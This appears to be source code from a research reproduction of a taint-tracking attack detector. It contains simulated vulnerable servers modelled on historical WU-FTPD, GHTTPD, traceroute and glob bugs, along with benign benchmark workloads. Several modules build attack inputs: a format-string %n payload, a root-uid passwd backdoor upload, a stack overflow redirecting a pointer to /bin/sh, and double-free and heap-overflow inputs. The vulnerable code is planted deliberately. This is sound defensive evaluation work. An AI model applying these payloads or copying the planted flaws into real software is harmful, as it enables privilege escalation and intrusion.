def all_synthetic_scenarios() -> list:
    """The Figure 2 trio plus the Table 4 false-negative trio."""
    return [
        exp1_scenario(),
        exp2_scenario(),
        exp3_scenario(),
        vuln_a_scenario(),
        vuln_b_scenario(),
        leak_scenario(),
    ]
