"""Mini WU-FTPD: the SITE EXEC format-string attack of section 5.1.2.

The analogue keeps exactly what the published exploit (BID-1387) needed:

* an FTP command loop with USER/PASS authentication state;
* a ``SITE EXEC`` handler that passes the user-supplied command text as the
  *format* argument of a printf-family function (``reply``);
* a login-uid word in the static data segment -- the **non-control** target
  the paper overwrites instead of a return address;
* a uid-gated privileged operation (``STOR /etc/passwd``) so an undetected
  attack produces the paper's backdoor: uploading a passwd file with a
  root-uid entry for the attacker.

The attack payload plants the uid word's address at the start of the SITE
EXEC argument and uses ``%x`` skid directives to walk vfprintf's argument
pointer ``ap`` up the stack into the planted address -- the same
``site exec \\x..\\x..\\x..\\x..%x%x%x%x%x%x%n`` shape as the paper's
Table 2 (the number of skid words is a frame-layout constant, exposed here
as :data:`WUFTPD_SKID_WORDS`).
"""

from __future__ import annotations

from functools import lru_cache
from typing import List

from ..attacks.payloads import format_write_payload
from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
from ..isa.program import Executable
from ..kernel.filesystem import SimFileSystem
from ..kernel.network import ScriptedClient
from ..libc.build import build_program

#: The uid word's static-data address in the paper's Table 2.
PAPER_UID_ADDRESS = 0x1002BC20

WUFTPD_TEMPLATE = r"""
int uid_pad[__PAD_WORDS__];  /* pins user_uid at the Table 2 address */
int user_uid = 1000;        /* identity of the logged-in user (the target) */
int logged_in = 0;

char banner[80] = "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.\r\n";

/* printf-family reply: the format-string sink (lreply in real WU-FTPD). */
void reply(int fd, char *fmt, ...) {
    char out[512];
    int n;
    int *ap;
    ap = &fmt;
    n = vformat(out, fmt, ap + 1);
    send(fd, out, n);
}

/*
 * SITE EXEC handler.  Copies the argument into a local line buffer and
 * echoes it through reply() as the format string -- the CVE-2000-0573
 * vulnerability.  The scratch array below the line buffer is the frame
 * region vfprintf's ap walks across (the %x skid of the exploit).
 */
void do_site_exec(int fd, char *args) {
    char line[128];
    char scratch[16];
    strcpy(line, args);
    memset(scratch, 0, 16);
    reply(fd, line);
}

/* Store an uploaded file; only privileged (system) uids may write. */
void do_stor(int fd, int client, char *path, char *content) {
    int out;
    if (user_uid >= 1000) {
        send_str(client, "550 Permission denied.\r\n");
        return;
    }
    out = open(path, 577);      /* O_WRONLY|O_CREAT|O_TRUNC */
    if (out < 0) {
        send_str(client, "553 Could not create file.\r\n");
        return;
    }
    write(out, content, strlen(content));
    close(out);
    send_str(client, "226 Transfer complete.\r\n");
}

int main(void) {
    int s;
    int c;
    int n;
    char cmd[512];
    char upload[256];
    s = server_listen(21);
    if (s < 0) {
        return 1;
    }
    c = accept(s);
    if (c < 0) {
        return 1;
    }
    send_str(c, banner);
    while (1) {
        n = recv_line(c, cmd, 512);
        if (n < 1) {
            break;
        }
        if (strncmp(cmd, "USER ", 5) == 0) {
            reply(c, "331 Password required for %s.\r\n", cmd + 5);
        } else if (strncmp(cmd, "PASS ", 5) == 0) {
            logged_in = 1;
            user_uid = 1000;
            send_str(c, "230 User logged in.\r\n");
        } else if (strncmp(cmd, "SITE EXEC ", 10) == 0) {
            if (logged_in) {
                do_site_exec(c, cmd + 10);
                if (user_uid != 1000) {
                    /* Identity word no longer matches the login: the
                       kernel-visible privilege now follows the corrupted
                       value (the paper's escalation step). */
                    setuid(user_uid);
                }
            } else {
                send_str(c, "530 Please login with USER and PASS.\r\n");
            }
        } else if (strncmp(cmd, "STOR ", 5) == 0) {
            n = recv_line(c, upload, 256);
            do_stor(0, c, cmd + 5, upload);
        } else if (strncmp(cmd, "QUIT", 4) == 0) {
            send_str(c, "221 Goodbye.\r\n");
            break;
        } else {
            send_str(c, "500 Unknown command.\r\n");
        }
    }
    close(c);
    return 0;
}
"""

#: %x directives needed for ap to walk from reply()'s first vararg slot
#: across do_site_exec's scratch area to the start of its line buffer.
#: Calibrated against the frame layout; asserted by the test suite.
WUFTPD_SKID_WORDS = 6

#: The backdoor line the paper's attacker uploads into /etc/passwd.
BACKDOOR_PASSWD_ENTRY = "alice:x:0:0::/home/root:/bin/bash"


def _source_with_pad(pad_words: int) -> str:
    return WUFTPD_TEMPLATE.replace("__PAD_WORDS__", str(pad_words))


@lru_cache(maxsize=1)
def wuftpd_source() -> str:
    """Server source with the pad sized so ``user_uid`` sits at the paper's
    Table 2 address 0x1002bc20 (whose bytes are NUL-free, as the exploit
    requires -- it travels through ``strcpy``)."""
    probe = build_program(_source_with_pad(1))
    probe_address = probe.address_of("_g_user_uid")
    pad_words = 1 + (PAPER_UID_ADDRESS - probe_address) // 4
    if pad_words < 1:
        raise RuntimeError("data segment already beyond the target address")
    return _source_with_pad(pad_words)


def build_wuftpd() -> Executable:
    """Compile the server (cached)."""
    return build_program(wuftpd_source())


def uid_address() -> int:
    """Static-data address of the login-uid word (the attack target)."""
    return build_wuftpd().address_of("_g_user_uid")


def site_exec_payload() -> bytes:
    """The Table 2 command: planted uid address + %x skid + %n."""
    return (
        b"SITE EXEC "
        + format_write_payload(
            uid_address(),
            skid_words=WUFTPD_SKID_WORDS,
            gap_words=WUFTPD_SKID_WORDS,
        )
        + b"\n"
    )


def attack_session() -> List[bytes]:
    """The full FTP session of Table 2: USER, PASS, SITE EXEC, then the
    backdoor upload attempt (only reached when undetected)."""
    return [
        b"USER user1\n",
        b"PASS xxxxxxx\n",
        site_exec_payload(),
        b"STOR /etc/passwd\n" + BACKDOOR_PASSWD_ENTRY.encode() + b"\n",
        b"QUIT\n",
    ]


def benign_session() -> List[bytes]:
    return [
        b"USER user1\n",
        b"PASS xxxxxxx\n",
        b"SITE EXEC ls -l\n",
        b"STOR /etc/passwd\nintruder:x:0:0::/:/bin/sh\n",
        b"QUIT\n",
    ]


def make_filesystem() -> SimFileSystem:
    """A filesystem holding the original /etc/passwd."""
    fs = SimFileSystem()
    fs.add_file("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
    return fs


def wuftpd_scenario() -> AttackScenario:
    """Table 2: format string overwrites the uid word (non-control data)."""
    return AttackScenario(
        name="wuftpd-site-exec",
        category=NON_CONTROL_DATA,
        description="WU-FTPD SITE EXEC format string -> uid overwrite",
        source=wuftpd_source(),
        attack_input={
            "clients": lambda: [ScriptedClient(attack_session())],
            "filesystem": make_filesystem,
        },
        benign_input={
            "clients": lambda: [ScriptedClient(benign_session())],
            "filesystem": make_filesystem,
        },
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="Table 2 / section 5.1.2",
        compromise_check=lambda result: (
            result.kernel is not None
            and result.kernel.fs.exists("/etc/passwd")
            and BACKDOOR_PASSWD_ENTRY.encode()
            in result.kernel.fs.read_file("/etc/passwd")
        ),
    )
