"""Mini LBNL traceroute: the double-free attack of section 5.1.2.

The published vulnerability (BID-1739): ``savestr()`` hands out pointers
into a pre-allocated block, the ``-g`` gateway parser frees the returned
pointer anyway, ``savestr`` keeps writing into the freed block, and the
second ``-g`` frees a pointer *into the middle* of the block -- a free of
memory "not allocated by malloc".

With ``traceroute -g 123 -g 5.6.7.8`` the second ``free()`` interprets the
tainted command-line string ``"123"`` (0x00333231) as chunk metadata; the
paper's detector raises at a store-word inside ``free()`` whose pointer
derives from that tainted word.  Command-line arguments are tainted at
process setup, exactly like network input (section 4.4).
"""

from __future__ import annotations

from ..attacks.payloads import double_free_args
from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
from ..isa.program import Executable
from ..libc.build import build_program

TRACEROUTE_SOURCE = r"""
char *gw_block = 0;
int gw_off = 0;
int gw_count = 0;

/* savestr(): amortizes malloc by carving strings out of one block
   (the real savestr in LBNL traceroute does exactly this). */
char *savestr(char *s) {
    char *p;
    if (gw_block == 0) {
        gw_block = malloc(64);
        gw_off = 0;
    }
    p = gw_block + gw_off;
    strcpy(p, s);
    gw_off = gw_off + strlen(s) + 1;
    return p;
}

int main(int argc, char **argv) {
    int i;
    char *gateway;
    gateway = 0;
    for (i = 1; i < argc; i++) {
        if (strcmp(argv[i], "-g") == 0) {
            i++;
            if (i < argc) {
                gateway = savestr(argv[i]);
                gw_count++;
                /* BID-1739: the parser frees savestr's storage; the second
                   -g frees a pointer into the middle of the (already
                   freed) block. */
                free(gateway);
            }
        }
    }
    printf("traceroute: %d gateways parsed\n", gw_count);
    return 0;
}
"""


def build_traceroute() -> Executable:
    return build_program(TRACEROUTE_SOURCE)


def traceroute_scenario() -> AttackScenario:
    return AttackScenario(
        name="traceroute-double-free",
        category=NON_CONTROL_DATA,
        description="traceroute -g x -g y double free (BID-1739)",
        source=TRACEROUTE_SOURCE,
        attack_input={"argv": double_free_args("123", "5.6.7.8")},
        benign_input={"argv": ["traceroute", "-g", "10.0.0.1"]},
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="section 5.1.2 (traceroute)",
    )
