"""Globbing heap corruption: Figure 1's fifth category, exercised.

The paper's taxonomy (section 3) lists *globbing vulnerabilities* --
"an incorrect invocation of LibC function glob()" -- among the memory-
corruption classes (CA-2001-07, CA-2001-33), but evaluates no globbing
victim.  This extension scenario closes that gap with an analogue of the
WU-FTPD globbing heap corruption (CA-2001-33): an FTP-style ``LIST``
handler expands a client-supplied glob pattern into a fixed 64-byte heap
buffer.  A long directory prefix replicated per match overflows the buffer
into the adjacent free chunk's fd/bk links, and ``free()`` detonates the
corruption -- the same unlink signature as exp2/NULL-HTTPD, rooted in the
glob() misuse the advisories describe.
"""

from __future__ import annotations

from typing import List

from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
from ..isa.program import Executable
from ..kernel.network import ScriptedClient
from ..libc.build import build_program

FTPGLOB_SOURCE = r"""
char file0[12] = "readme";
char file1[12] = "notes";
char file2[12] = "budget";
char file3[12] = "todo";

char *directory[4];

void init_directory(void) {
    directory[0] = file0;
    directory[1] = file1;
    directory[2] = file2;
    directory[3] = file3;
}

/* Classic recursive glob matcher: '*' and '?' wildcards. */
int glob_match(char *pattern, char *name) {
    if (*pattern == 0) {
        return *name == 0;
    }
    if (*pattern == '*') {
        if (glob_match(pattern + 1, name)) {
            return 1;
        }
        if (*name && glob_match(pattern, name + 1)) {
            return 1;
        }
        return 0;
    }
    if (*name == 0) {
        return 0;
    }
    if (*pattern == '?' || *pattern == *name) {
        return glob_match(pattern + 1, name + 1);
    }
    return 0;
}

/*
 * Expand a pattern ("<prefix>/<namepattern>") against the directory into
 * `out`.  The prefix is echoed verbatim in front of every match -- and
 * nothing bounds the expansion against the caller's buffer: the CA-2001-33
 * defect shape.
 */
int glob_expand(char *pattern, char *out) {
    char *slash;
    char *name_pattern;
    int n;
    int i;
    int j;
    slash = 0;
    for (i = 0; pattern[i]; i++) {
        if (pattern[i] == '/') {
            slash = pattern + i;
        }
    }
    if (slash) {
        name_pattern = slash + 1;
    } else {
        name_pattern = pattern;
    }
    n = 0;
    for (i = 0; i < 4; i++) {
        if (glob_match(name_pattern, directory[i])) {
            if (slash) {
                for (j = 0; pattern + j < slash; j++) {
                    out[n] = pattern[j];
                    n++;
                }
                out[n] = '/';
                n++;
            }
            for (j = 0; directory[i][j]; j++) {
                out[n] = directory[i][j];
                n++;
            }
            out[n] = ' ';
            n++;
        }
    }
    out[n] = 0;
    return n;
}

void do_list(int fd, char *pattern) {
    char *out;
    int n;
    out = malloc(64);              /* fixed-size result buffer: the bug */
    n = glob_expand(pattern, out); /* unbounded expansion */
    send(fd, out, n);
    free(out);                     /* detonation when out overflowed */
}

int main(void) {
    int s;
    int c;
    int n;
    char cmd[256];
    char *tmp;
    char *tmp2;
    init_directory();
    /* Ordinary server activity seeds a binned free chunk that the LIST
       buffer allocation later splits. */
    tmp = malloc(120);
    tmp2 = malloc(16);
    free(tmp);
    s = server_listen(21);
    if (s < 0) {
        return 1;
    }
    c = accept(s);
    if (c < 0) {
        return 1;
    }
    send_str(c, "220 FTP server ready.\r\n");
    while (1) {
        n = recv_line(c, cmd, 256);
        if (n < 1) {
            break;
        }
        if (strncmp(cmd, "LIST ", 5) == 0) {
            do_list(c, cmd + 5);
            send_str(c, "\r\n226 Transfer complete.\r\n");
        } else if (strncmp(cmd, "QUIT", 4) == 0) {
            send_str(c, "221 Goodbye.\r\n");
            break;
        } else {
            send_str(c, "500 Unknown command.\r\n");
        }
    }
    close(c);
    return 0;
}
"""


def build_ftpglob() -> Executable:
    return build_program(FTPGLOB_SOURCE)


def attack_pattern() -> bytes:
    """A glob pattern whose per-match prefix replication overflows the
    64-byte expansion buffer into the adjacent free chunk's links.

    The prefix is all ``a``: the bytes that land on the chunk's size/fd/bk
    become 0x61616161 -- tainted, odd-sized, and wild, exactly like exp2.
    """
    return b"a" * 40 + b"/*"


def attack_session() -> List[bytes]:
    return [b"LIST " + attack_pattern() + b"\n", b"QUIT\n"]


def benign_session() -> List[bytes]:
    return [
        b"LIST *\n",
        b"LIST read*\n",
        b"LIST pub/??tes\n",
        b"QUIT\n",
    ]


def ftpglob_scenario() -> AttackScenario:
    return AttackScenario(
        name="ftpglob-heap",
        category=NON_CONTROL_DATA,
        description="glob() expansion heap overflow (CA-2001-33 analogue)",
        source=FTPGLOB_SOURCE,
        attack_input={"clients": lambda: [ScriptedClient(attack_session())]},
        benign_input={"clients": lambda: [ScriptedClient(benign_session())]},
        expected_alert_kind="store",
        detected_by_control_data=False,
        paper_ref="Figure 1 globbing class / CA-2001-33 (extension)",
    )
