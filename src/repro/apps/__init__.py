"""Evaluation applications: synthetic victims, servers, benign workloads."""

from .ftpglob import FTPGLOB_SOURCE, build_ftpglob, ftpglob_scenario
from .ghttpd import GHTTPD_SOURCE, build_ghttpd, ghttpd_scenario
from .nullhttpd import NULLHTTPD_SOURCE, build_nullhttpd, nullhttpd_scenario
from .spec import SPEC_WORKLOADS, SpecWorkload, workload_by_name
from .synthetic import (
    EXP1_SOURCE,
    EXP2_SOURCE,
    EXP3_SOURCE,
    LEAK_SOURCE,
    VULN_A_SOURCE,
    VULN_B_SOURCE,
    all_synthetic_scenarios,
    exp1_scenario,
    exp2_scenario,
    exp3_scenario,
    leak_scenario,
    vuln_a_scenario,
    vuln_b_scenario,
)
from .traceroute import TRACEROUTE_SOURCE, build_traceroute, traceroute_scenario
from .wuftpd import (
    BACKDOOR_PASSWD_ENTRY,
    build_wuftpd,
    site_exec_payload,
    uid_address,
    wuftpd_scenario,
    wuftpd_source,
)

__all__ = [
    "FTPGLOB_SOURCE",
    "build_ftpglob",
    "ftpglob_scenario",
    "GHTTPD_SOURCE",
    "build_ghttpd",
    "ghttpd_scenario",
    "NULLHTTPD_SOURCE",
    "build_nullhttpd",
    "nullhttpd_scenario",
    "SPEC_WORKLOADS",
    "SpecWorkload",
    "workload_by_name",
    "EXP1_SOURCE",
    "EXP2_SOURCE",
    "EXP3_SOURCE",
    "LEAK_SOURCE",
    "VULN_A_SOURCE",
    "VULN_B_SOURCE",
    "all_synthetic_scenarios",
    "exp1_scenario",
    "exp2_scenario",
    "exp3_scenario",
    "leak_scenario",
    "vuln_a_scenario",
    "vuln_b_scenario",
    "TRACEROUTE_SOURCE",
    "build_traceroute",
    "traceroute_scenario",
    "BACKDOOR_PASSWD_ENTRY",
    "build_wuftpd",
    "site_exec_payload",
    "uid_address",
    "wuftpd_scenario",
    "wuftpd_source",
]
