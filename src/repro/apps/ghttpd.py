"""Mini GHTTPD: the stack-overflow / URL-pointer-redirect attack (s5.1.2).

The published vulnerability (BID-5960) is a 200-byte stack buffer in the
logging path that an over-long HTTP request overflows.  The paper's
**non-control-data** exploit does not touch the return address: it stops
after overwriting a *URL pointer* that sits above the buffer in the frame,
redirecting it -- after the ``"/.."`` policy check has already passed -- to
an illegitimate path string planted later in the request
(``/cgi-bin/../../../../bin/sh``).

The analogue keeps that exact frame geometry: ``handle()`` checks the URL
policy, then copies the whole request into a 200-byte buffer with the
pointer cell 4 bytes above it, then dereferences the (now corrupted)
pointer to serve the request.
"""

from __future__ import annotations

from functools import lru_cache

from ..attacks.scenarios import AttackScenario, NON_CONTROL_DATA
from ..attacks.payloads import le32
from ..isa.program import Executable
from ..kernel.network import ScriptedClient
from ..libc.build import build_program
from .replay_support import calibrate_symbol_pointer

GHTTPD_SOURCE = r"""
int req_addr = 0;           /* calibration export: address of main's req[] */

void serve_file(int fd, char *url) {
    char path[336];
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        sprintf(path, "/var/www%s", url);
        exec(path);
        send_str(fd, "200 CGI executed\r\n");
        return;
    }
    send_str(fd, "200 OK\r\n");
}

/*
 * The vulnerable request handler (Log() in real GHTTPD): a 200-byte
 * buffer receives an unbounded strcpy of the request; the URL pointer
 * lives in the frame word directly above the buffer.
 */
void handle(int fd, char *req) {
    char *urlptr[1];
    char buf[200];
    char *u;
    urlptr[0] = req + 4;                    /* skip "GET " */
    /* HTTP security policy: reject directory traversal -- checked BEFORE
       the overflow, which is exactly what the attack exploits. */
    if (strstr(urlptr[0], "/..")) {
        send_str(fd, "403 Forbidden\r\n");
        return;
    }
    strcpy(buf, req);                       /* BID-5960: 200-byte overflow */
    u = urlptr[0];
    serve_file(fd, u);
}

int main(void) {
    int s;
    int c;
    int n;
    char req[600];
    s = server_listen(80);
    if (s < 0) {
        return 1;
    }
    while (1) {
        c = accept(s);
        if (c < 0) {
            break;
        }
        n = recv(c, req, 599);
        if (n > 0) {
            req[n] = 0;
            req_addr = req;
            handle(c, req);
        }
        close(c);
    }
    return 0;
}
"""

#: Byte offset of the URL-pointer cell within the request: "GET " (4) +
#: 196 filler bytes fill the 200-byte buffer, then 4 pointer bytes.
POINTER_OFFSET = 200

#: Offset of the planted shell path inside the request: pointer (4 bytes)
#: plus the NUL that stops strcpy right after the pointer cell.
SHELL_STRING_OFFSET = POINTER_OFFSET + 5

SHELL_STRING = b"/cgi-bin/../../../../bin/sh"


def build_ghttpd() -> Executable:
    return build_program(GHTTPD_SOURCE)


@lru_cache(maxsize=1)
def request_buffer_address() -> int:
    """Address of ``main``'s request buffer, discovered by a benign run.

    The simulated machine is fully deterministic, so the address observed
    during calibration is the address the attack run will see.
    """
    return calibrate_symbol_pointer(
        build_ghttpd(),
        "_g_req_addr",
        clients=lambda: [ScriptedClient([b"GET /index.html HTTP/1.0\r\n"])],
    )


def attack_request() -> bytes:
    """The paper's request: ``GET AAAA...<ptr>\\0/cgi-bin/../../../../bin/sh``.

    The pointer bytes redirect the URL pointer to the shell string planted
    at a fixed offset inside this very request (a stack address, like the
    paper's 0x7fff3e94).  The NUL after the pointer stops the strcpy so the
    saved frame pointer and return address stay intact -- this attack
    corrupts *no control data*.
    """
    target = request_buffer_address() + SHELL_STRING_OFFSET
    filler = b"A" * (POINTER_OFFSET - 4)
    return b"GET " + filler + le32(target) + b"\0" + SHELL_STRING + b"\0"


def ghttpd_scenario() -> AttackScenario:
    return AttackScenario(
        name="ghttpd-url-pointer",
        category=NON_CONTROL_DATA,
        description="GHTTPD stack overflow redirects the URL pointer",
        source=GHTTPD_SOURCE,
        attack_input={
            "clients": lambda: [ScriptedClient([attack_request()])],
        },
        benign_input={
            "clients": lambda: [
                ScriptedClient([b"GET /index.html HTTP/1.0\r\n"]),
                ScriptedClient([b"GET /cgi-bin/../../etc/passwd HTTP/1.0\r\n"]),
            ],
        },
        expected_alert_kind="load",
        detected_by_control_data=False,
        paper_ref="section 5.1.2 (GHTTPD)",
    )
