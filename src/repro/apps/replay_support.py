"""Shared helpers for application modules (calibration runs)."""

from __future__ import annotations

from typing import Callable, List, Optional

from ..attacks.replay import run_executable
from ..defenses.policy import NullPolicy
from ..isa.program import Executable
from ..kernel.network import ScriptedClient


def calibrate_symbol_pointer(
    exe: Executable,
    symbol: str,
    clients: Optional[Callable[[], List[ScriptedClient]]] = None,
    stdin: bytes = b"",
    argv: Optional[List[str]] = None,
) -> int:
    """Run the program benignly and read a pointer it exported to a global.

    Applications store an interesting runtime address (e.g. a stack buffer's
    location) into a calibration global; because the simulated machine is
    deterministic, the value observed here is valid for subsequent runs with
    the same build.
    """
    result = run_executable(
        exe,
        NullPolicy(),
        clients=clients() if clients else None,
        stdin=stdin,
        argv=argv,
    )
    if result.sim is None:
        raise RuntimeError("calibration run produced no simulator")
    address = exe.address_of(symbol)
    value, _ = result.sim.memory.read(address, 4)
    if value == 0:
        raise RuntimeError(
            f"calibration run never wrote {symbol} "
            f"(outcome: {result.describe()})"
        )
    return value
