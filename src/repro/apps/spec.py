"""Benign SPEC-2000-like workloads for the Table 3 false-positive study.

The paper runs six SPEC 2000 integer binaries (BZIP2, GCC, GZIP, MCF,
PARSER, VPR) on the taint-tracking architecture and observes **zero**
alerts across 15 billion instructions.  These six MiniC workloads are
named after their SPEC counterparts and exercise the same *taint-relevant*
program shapes at simulator-friendly scale:

* heavy consumption of external (tainted) input;
* input-derived values used as array indices after validation -- the
  pattern the compare-untaint rule (Table 1) exists to keep alert-free;
* hashing, table lookup, recursion, pseudo-random permutation.

The reproduction target is the *shape* of Table 3: all-zero alert counts,
with our own program-size / input-byte / instruction-count columns.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List

# ---------------------------------------------------------------------------
# BZIP2 -- run-length compression + roundtrip verification
# ---------------------------------------------------------------------------

BZIP2_SOURCE = r"""
char data[4096];
char packed[8192];
char unpacked[4096];

int rle_encode(char *src, int n, char *dst) {
    int i;
    int j;
    int run;
    i = 0;
    j = 0;
    while (i < n) {
        run = 1;
        while (i + run < n && src[i + run] == src[i] && run < 255) {
            run++;
        }
        dst[j] = run;
        dst[j + 1] = src[i];
        j = j + 2;
        i = i + run;
    }
    return j;
}

int rle_decode(char *src, int n, char *dst) {
    int i;
    int j;
    int k;
    int run;
    i = 0;
    j = 0;
    while (i < n) {
        run = src[i];
        for (k = 0; k < run; k++) {
            dst[j] = src[i + 1];
            j++;
        }
        i = i + 2;
    }
    return j;
}

int main(void) {
    int n;
    int packed_len;
    int out_len;
    int i;
    int errors;
    n = read(0, data, 4096);
    packed_len = rle_encode(data, n, packed);
    out_len = rle_decode(packed, packed_len, unpacked);
    errors = 0;
    for (i = 0; i < n; i++) {
        if (data[i] != unpacked[i]) {
            errors++;
        }
    }
    printf("bzip2: in=%d packed=%d out=%d errors=%d\n",
           n, packed_len, out_len, errors);
    return errors;
}
"""

# ---------------------------------------------------------------------------
# GCC -- tiny expression compiler (tokenize, parse, emit stack code)
# ---------------------------------------------------------------------------

GCC_SOURCE = r"""
char source[2048];
char output[8192];
int pos = 0;
int out_len = 0;

void emit(char *op, int value) {
    out_len = out_len + sprintf(output + out_len, "%s %d\n", op, value);
}

void skip_spaces(void) {
    while (source[pos] == ' ') {
        pos++;
    }
}

int parse_expr();

int parse_primary(void) {
    int value;
    skip_spaces();
    if (source[pos] == '(') {
        pos++;
        value = parse_expr();
        skip_spaces();
        if (source[pos] == ')') {
            pos++;
        }
        return value;
    }
    value = 0;
    while (isdigit(source[pos])) {
        value = value * 10 + (source[pos] - '0');
        pos++;
    }
    emit("push", value);
    return value;
}

int parse_term(void) {
    int value;
    int rhs;
    value = parse_primary();
    while (1) {
        skip_spaces();
        if (source[pos] == '*') {
            pos++;
            rhs = parse_primary();
            emit("mul", 0);
            value = value * rhs;
        } else if (source[pos] == '/') {
            pos++;
            rhs = parse_primary();
            emit("div", 0);
            if (rhs != 0) {
                value = value / rhs;
            }
        } else {
            return value;
        }
    }
    return value;
}

int parse_expr(void) {
    int value;
    int rhs;
    value = parse_term();
    while (1) {
        skip_spaces();
        if (source[pos] == '+') {
            pos++;
            rhs = parse_term();
            emit("add", 0);
            value = value + rhs;
        } else if (source[pos] == '-') {
            pos++;
            rhs = parse_term();
            emit("sub", 0);
            value = value - rhs;
        } else {
            return value;
        }
    }
    return value;
}

int main(void) {
    int n;
    int total;
    int lines;
    int value;
    n = read(0, source, 2047);
    source[n] = 0;
    total = 0;
    lines = 0;
    while (source[pos]) {
        value = parse_expr();
        emit("result", value);
        total = total + value;
        lines++;
        skip_spaces();
        if (source[pos] == '\n' || source[pos] == ';') {
            pos++;
        } else if (source[pos]) {
            pos++;
        }
    }
    write(1, output, out_len);
    printf("gcc: %d expressions, checksum=%d\n", lines, total);
    return 0;
}
"""

# ---------------------------------------------------------------------------
# GZIP -- LZ-style compressor with a hash head table
# ---------------------------------------------------------------------------

GZIP_SOURCE = r"""
char text[4096];
int head[512];
char out[8192];

int hash3(char *p) {
    int h;
    h = (p[0] * 31 + p[1]) * 31 + p[2];
    h = h % 512;
    if (h < 0) {
        h = h + 512;
    }
    return h;
}

int main(void) {
    int n;
    int i;
    int j;
    int h;
    int cand;
    int match_len;
    int literals;
    int matches;
    int out_len;
    n = read(0, text, 4096);
    for (i = 0; i < 512; i++) {
        head[i] = -1;
    }
    literals = 0;
    matches = 0;
    out_len = 0;
    i = 0;
    while (i < n) {
        match_len = 0;
        cand = -1;
        if (i + 3 <= n) {
            h = hash3(text + i);
            cand = head[h];
            head[h] = i;
        }
        if (cand >= 0 && cand < i) {
            j = 0;
            while (i + j < n && text[cand + j] == text[i + j] && j < 255) {
                j++;
            }
            match_len = j;
        }
        if (match_len >= 3) {
            out[out_len] = 255;
            out[out_len + 1] = match_len;
            out_len = out_len + 2;
            matches++;
            i = i + match_len;
        } else {
            out[out_len] = text[i];
            out_len++;
            literals++;
            i++;
        }
    }
    printf("gzip: in=%d out=%d literals=%d matches=%d\n",
           n, out_len, literals, matches);
    return 0;
}
"""

# ---------------------------------------------------------------------------
# MCF -- greedy min-cost assignment over a parsed cost matrix
# ---------------------------------------------------------------------------

MCF_SOURCE = r"""
char input[8192];
int cost[400];
int assigned[20];
int used[20];

int main(void) {
    int n;
    int rows;
    int i;
    int j;
    int k;
    int best;
    int best_col;
    int total;
    int value;
    int p;
    n = read(0, input, 8191);
    input[n] = 0;
    /* Parse whitespace-separated costs into a rows x rows matrix. */
    p = 0;
    k = 0;
    while (input[p] && k < 400) {
        while (input[p] && !isdigit(input[p])) {
            p++;
        }
        value = 0;
        while (isdigit(input[p])) {
            value = value * 10 + (input[p] - '0');
            p++;
        }
        cost[k] = value;
        k++;
    }
    rows = 1;
    while (rows * rows <= k && rows < 20) {
        rows++;
    }
    rows--;
    for (i = 0; i < rows; i++) {
        used[i] = 0;
    }
    /* Greedy assignment: each row takes its cheapest unused column. */
    total = 0;
    for (i = 0; i < rows; i++) {
        best = 0x7fffffff;
        best_col = -1;
        for (j = 0; j < rows; j++) {
            if (!used[j] && cost[i * rows + j] < best) {
                best = cost[i * rows + j];
                best_col = j;
            }
        }
        if (best_col >= 0) {
            used[best_col] = 1;
            assigned[i] = best_col;
            total = total + best;
        }
    }
    printf("mcf: %d rows, total cost=%d\n", rows, total);
    return 0;
}
"""

# ---------------------------------------------------------------------------
# PARSER -- token grammar checker (balanced structure, word classes)
# ---------------------------------------------------------------------------

PARSER_SOURCE = r"""
char text[8192];
int class_count[8];

int classify(char *word, int len) {
    int i;
    int digits;
    int alphas;
    digits = 0;
    alphas = 0;
    for (i = 0; i < len; i++) {
        if (isdigit(word[i])) {
            digits++;
        } else {
            alphas++;
        }
    }
    if (digits == len) {
        return 0;
    }
    if (alphas == len) {
        if (len < 4) {
            return 1;
        }
        return 2;
    }
    return 3;
}

int main(void) {
    int n;
    int i;
    int start;
    int depth;
    int max_depth;
    int unbalanced;
    int words;
    int cls;
    n = read(0, text, 8191);
    text[n] = 0;
    depth = 0;
    max_depth = 0;
    unbalanced = 0;
    words = 0;
    i = 0;
    for (i = 0; i < 8; i++) {
        class_count[i] = 0;
    }
    i = 0;
    while (i < n) {
        if (text[i] == '(') {
            depth++;
            if (depth > max_depth) {
                max_depth = depth;
            }
            i++;
        } else if (text[i] == ')') {
            depth--;
            if (depth < 0) {
                unbalanced++;
                depth = 0;
            }
            i++;
        } else if (isspace(text[i])) {
            i++;
        } else {
            start = i;
            while (i < n && !isspace(text[i]) && text[i] != '('
                   && text[i] != ')') {
                i++;
            }
            cls = classify(text + start, i - start);
            if (cls >= 0 && cls < 8) {
                class_count[cls] = class_count[cls] + 1;
            }
            words++;
        }
    }
    printf("parser: %d words, depth=%d, unbalanced=%d, c0=%d c1=%d c2=%d c3=%d\n",
           words, max_depth, unbalanced, class_count[0], class_count[1],
           class_count[2], class_count[3]);
    return 0;
}
"""

# ---------------------------------------------------------------------------
# VPR -- placement annealing with an input-seeded PRNG
# ---------------------------------------------------------------------------

VPR_SOURCE = r"""
char input[4096];
int grid[64];
int weight[64];

int rng_state = 1;

int rng_next(int modulus) {
    int r;
    rng_state = rng_state * 1103515245 + 12345;
    r = (rng_state >> 16) % modulus;
    if (r < 0) {
        r = r + modulus;
    }
    return r;
}

int placement_cost(void) {
    int i;
    int total;
    total = 0;
    for (i = 0; i < 63; i++) {
        total = total + weight[grid[i]] * weight[grid[i + 1]] % 97;
    }
    return total;
}

int main(void) {
    int n;
    int i;
    int a;
    int b;
    int tmp;
    int before;
    int after;
    int accepted;
    int iterations;
    n = read(0, input, 4095);
    input[n] = 0;
    rng_state = atoi(input);
    for (i = 0; i < 64; i++) {
        grid[i] = i;
        weight[i] = (input[i % n] + i) % 97;
    }
    accepted = 0;
    iterations = 220;
    for (i = 0; i < iterations; i++) {
        a = rng_next(64);
        b = rng_next(64);
        before = placement_cost();
        tmp = grid[a];
        grid[a] = grid[b];
        grid[b] = tmp;
        after = placement_cost();
        if (after > before) {
            tmp = grid[a];
            grid[a] = grid[b];
            grid[b] = tmp;
        } else {
            accepted++;
        }
    }
    printf("vpr: %d iterations, %d accepted, final cost=%d\n",
           iterations, accepted, placement_cost());
    return 0;
}
"""


